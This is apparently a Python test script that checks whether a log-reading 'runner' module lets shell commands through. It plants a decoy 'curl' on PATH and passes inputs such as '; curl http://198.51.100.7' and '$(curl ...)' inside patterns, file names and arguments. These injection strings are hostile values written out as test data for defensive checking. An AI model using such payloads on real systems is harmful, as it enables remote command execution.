"""Shows what base does wrong where it runs below gunicorn."""

import contextlib
import io
import os
import sys
import tempfile

sys.dont_write_bytecode = True
sys.path.insert(0, os.getcwd())

ROOM = {'logs/app.log': 'info start\nerror disk full\ninfo a+b\nwarning 100%; $HOME & more\ninfo stop\n', "logs/it's here.log": 'one|1\ntwo|2\none|3\n'}
FOLDER = 'room'
CASES = [
    ('import runner', 'runner.lines(\'x"; curl http://198.51.100.7; "\')', 'curl'),
    ('import runner', 'runner.matches("x\' app; curl http://198.51.100.7; \'", \'app.log\')', 'curl'),
    ('import runner', 'runner.matches(\'info\', "app.log\'; curl http://198.51.100.7; \'")', 'curl'),
    ('import runner', "runner.tail('app.log', '1; curl http://198.51.100.7 #')", 'curl'),
    ('import runner', "runner.values('app.log', '1 $(curl http://198.51.100.7)')", 'curl'),
    ('import runner', 'runner.values(\'app.log\', 1, " \' -f 1; curl http://198.51.100.7; \'")', 'curl'),
    ('import runner', 'runner.run_job(\'lines "$(curl http://198.51.100.7)"\')', 'curl'),
]
sys.modules['gunicorn'] = sys


def shows(setup, does, wanted):
    seen, value = io.StringIO(), None
    with tempfile.TemporaryDirectory() as place:
        room = os.path.join(place, FOLDER)
        os.mkdir(room)
        os.chdir(room)
        for path, content in ROOM.items():
            os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
            with open(path, "w", encoding="utf-8") as file:
                file.write(content)
        os.mkdir(os.path.join(place, "bin"))
        decoy = os.path.join(place, "bin", wanted)
        with open(decoy, "w") as file:
            file.write("#!/bin/sh\n: > '" + place + "/ran'\n")
        os.chmod(decoy, 0o755)
        os.environ["PATH"] = os.path.dirname(decoy) + os.pathsep + os.environ["PATH"]
        with contextlib.redirect_stdout(seen):
            try:
                scope = {}
                exec(setup, scope)
                value = eval(does, scope)
            except Exception as error:
                print(repr(error))
        said = seen.getvalue() + repr(value)
        there = {os.path.relpath(os.path.join(where, each)) for where, _, files in os.walk(room) for each in files}
        os.chdir("/")
        return os.path.exists(os.path.join(place, 'ran'))

sys.exit(1 if any(shows(*case) for case in CASES) else 0)
